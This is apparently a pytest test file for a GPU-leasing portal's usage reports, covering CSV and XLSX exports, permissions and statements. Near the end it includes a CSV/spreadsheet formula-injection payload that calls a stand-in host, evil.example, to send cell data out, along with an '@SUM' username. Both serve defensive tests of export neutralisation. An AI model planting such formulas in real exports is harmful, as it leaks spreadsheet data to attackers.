"""GET /api/v1/reports/usage/, the /reports/ page and the monthly statement: who sees what,
the 400s, and the files (CSV streamed, XLSX with the filter on top and a totals row)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from leasing.models import UsageRecord
from tests.leasing import test_usage_reconcile as reconcile

world, november = reconcile.world, reconcile.november  # the same fixtures

NOV = "start=2026-11-01&end=2026-11-30"


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def as_user(client):
    def login(user):
        client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
        client.force_login(user)
        return client

    return login


def test_finance_gets_every_team_as_json(november, fin, as_user):
    body = as_user(fin).get(f"/api/v1/reports/usage/?{NOV}&group_by=team").json()
    assert {row["label"]: Decimal(row["cost"]) for row in body["rows"]} == {
        "Vision": Decimal("637.00"),
        "NLP": Decimal("84.00"),
    }
    assert Decimal(body["totals"]["cost"]) == Decimal("721.00")
    assert body["rows"][0]["period"] == "2026-11-01"


def test_lead_sees_only_the_teams_they_lead(november, lena, as_user):
    client = as_user(lena)
    body = client.get(f"/api/v1/reports/usage/?{NOV}&group_by=user").json()
    assert [row["label"] for row in body["rows"]] == ["alice"]
    refused = client.get(f"/api/v1/reports/usage/?{NOV}&team=nlp")
    assert refused.status_code == 400 and "team" in refused.json()


def test_members_are_refused(november, alice, as_user):
    client = as_user(alice)
    assert client.get("/api/v1/reports/usage/").status_code == 403
    assert client.get("/reports/").status_code == 403


@pytest.mark.parametrize(
    "query, field",
    [
        ("start=2026-13-01", "start"),
        ("end=yesterday", "end"),
        ("start=2026-11-10&end=2026-11-01", "end"),
        ("group_by=colour", "group_by"),
        ("period=year", "period"),
        ("format=pdf", "format"),
        ("team=nope", "team"),
    ],
)
def test_bad_parameters_get_a_400_naming_them(fin, as_user, query, field):
    response = as_user(fin).get(f"/api/v1/reports/usage/?{query}")
    assert response.status_code == 400
    assert list(response.json()) == [field]


def test_csv_is_streamed_and_matches_the_report(november, fin, as_user):
    response = as_user(fin).get(f"/api/v1/reports/usage/?{NOV}&group_by=team&format=csv")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))
    assert rows[0][:4] == ["Month", "Team", "Card-hours", "Cost (CNY)"]
    assert {r[0] for r in rows[1:]} == {"2026-11"}  # months as the page writes them
    assert sorted((r[1], r[3]) for r in rows[1:]) == [("NLP", "84.00"), ("Vision", "637.00")]


def test_csv_of_every_record_streams_each_record(november, fin, as_user):
    response = as_user(fin).get(f"/api/v1/reports/usage/?{NOV}&format=csv&detail=true")
    assert response.streaming
    rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))[1:]
    expected = UsageRecord.objects.filter(month="2026-11-01")
    assert len(rows) == expected.count()
    # The usage column comes last, so the earlier columns keep their places.
    assert sum(Decimal(r[14]) for r in rows) == Decimal("721.00")
    assert {r[-1] for r in rows} == {"Recorded"}


def _sheet(response):
    wb = openpyxl.load_workbook(io.BytesIO(_body(response)), read_only=True)
    return [list(row) for row in wb.worksheets[0].iter_rows(values_only=True)]


def test_xlsx_has_the_filter_on_top_and_a_totals_row(november, fin, as_user):
    response = as_user(fin).get(f"/api/v1/reports/usage/?{NOV}&group_by=team&format=xlsx")
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    rows = _sheet(response)
    assert rows[0][0] == "Cardpool usage report"
    header = {row[0]: row[1] for row in rows[1:6]}
    # Real dates in the sheet, not text.
    assert header["From"].date() == date(2026, 11, 1)
    assert header["To (inclusive)"].date() == date(2026, 11, 30)
    assert header["Group by"] == "Team" and header["Teams"] == "all"
    total = rows[-1]
    assert total[0] == "Total" and total[3] == pytest.approx(721.00) and total[4] == 5


def test_report_page_shows_table_charts_and_export_links(november, fin, as_user):
    response = as_user(fin).get(f"/reports/?{NOV}&group_by=team&period=month")
    html = response.content.decode()
    assert response.status_code == 200
    assert "637.00" in html and "721.00" in html
    assert html.count('class="plotly-chart"') == 2
    assert 'data-export="xlsx"' in html and "/reports/statements/vision/2026-11/" in html
    xlsx = as_user(fin).get(f"/reports/?{NOV}&group_by=team&format=xlsx")
    assert _sheet(xlsx)[-1][3] == pytest.approx(721.00)


def test_statement_lists_every_lease_and_totals(november, lena, as_user):
    client = as_user(lena)
    response = client.get("/reports/statements/vision/2026-11/")
    html = response.content.decode()
    assert response.status_code == 200
    for key in ("boundary", "price_change", "preemptible", "seconds"):
        assert f'data-lease="{november[key].pk}"' in html
    assert f'data-lease="{november["december"].pk}"' not in html
    assert "637.00" in html and "@media print" not in html  # the print rules live in reports.css
    rows = _sheet(client.get("/reports/statements/vision/2026-11/?format=xlsx"))
    assert rows[-1][0] == "Total" and rows[-1][9] == pytest.approx(637.00)
    assert client.get("/reports/statements/nlp/2026-11/").status_code == 404


def test_print_stylesheet_hides_the_chrome():
    from pathlib import Path

    css = (Path(__file__).parents[2] / "static/css/reports.css").read_text()
    assert "@media print" in css and ".site-header" in css


def test_pages_read_in_chinese(november, fin, client):
    client.force_login(fin)
    html = client.get("/reports/", HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    assert "用量与费用报表" in html and "报表" in html
    statement = client.get("/reports/statements/vision/2026-11/", HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert "月结单" in statement.content.decode()


def test_day_report_puts_each_hour_on_its_own_day(fin, alice, vision, as_user):
    """A lease over midnight counts on both days (records never span two days)."""
    from datetime import timedelta
    from zoneinfo import ZoneInfo

    import time_machine

    from leasing.billing import usage
    from leasing.lifecycle import endings, provisioning
    from leasing.lifecycle import requests as lease_requests
    from tests.factories import CardModelFactory, make_node

    model = CardModelFactory(slug="day-split", price_per_hour=Decimal("6.00"))
    make_node(model, cards=1, domains=1, hostname="day")
    start = datetime(2026, 11, 10, 20, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
    with time_machine.travel(start, tick=False) as clock:
        lease = lease_requests.lease_request(
            user=alice, team=vision, card_model=model, count=1, duration=timedelta(hours=6)
        )
        provisioning.provision_step(lease_id=lease.pk)
        clock.move_to(start + timedelta(hours=6))
        endings.lease_expire(lease_id=lease.pk)
        provisioning.lease_finish_release(lease_id=lease.pk)
    usage.usage_record_lease(lease.pk)
    body = (
        as_user(fin)
        .get("/api/v1/reports/usage/?start=2026-11-10&end=2026-11-11&group_by=team&period=day")
        .json()
    )
    by_day = {row["period"]: Decimal(row["card_hours"]) for row in body["rows"]}
    assert by_day == {"2026-11-10": Decimal("4"), "2026-11-11": Decimal("2")}
    assert Decimal(body["totals"]["cost"]) == Decimal("36.00")


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def hostile_names(november):
    """A team and a user named so that a spreadsheet would run them as formulas."""
    from portal.models import Team

    Team.objects.filter(slug="vision").update(name=HOSTILE)
    user = UsageRecord.objects.filter(team__slug="vision").first().user
    # A name from before the username rule (kept, not renamed; usernames_check lists it).
    type(user).objects.filter(pk=user.pk).update(username="@SUM(1+1)")
    return november


def test_exports_neutralise_formulas(hostile_names, fin, lena, as_user):
    """Cells that start with = + - @ (or tab, CR) get a leading apostrophe: text, not a formula."""
    client = as_user(fin)
    body = _body(client.get(f"/api/v1/reports/usage/?{NOV}&group_by=team&format=csv"))
    labels = [r[1] for r in csv.reader(io.StringIO(body.decode("utf-8-sig")))]
    assert "'" + HOSTILE in labels and HOSTILE not in labels
    body = _body(client.get(f"/api/v1/reports/usage/?{NOV}&format=csv&detail=true"))
    cells = [c for r in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in r]
    assert "'@SUM(1+1)" in cells and not any(c.startswith(("=", "@")) for c in cells)
    for url in (
        f"/api/v1/reports/usage/?{NOV}&group_by=team&format=xlsx",
        f"/api/v1/reports/usage/?{NOV}&format=xlsx&detail=true",
    ):
        cells = [c for row in _sheet(client.get(url)) for c in row if isinstance(c, str)]
        assert not any(c.startswith(("=", "@")) for c in cells), url
    statement = _sheet(as_user(lena).get("/reports/statements/vision/2026-11/?format=xlsx"))
    cells = [c for row in statement for c in row if isinstance(c, str)]
    assert "'" + HOSTILE in cells and "'@SUM(1+1)" in cells


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        (-1, -1),
        (Decimal("-2.5"), Decimal("-2.5")),
    ],
)
def test_neutralise(value, expected):
    from leasing.billing.exports import neutralise

    assert neutralise(value) == expected
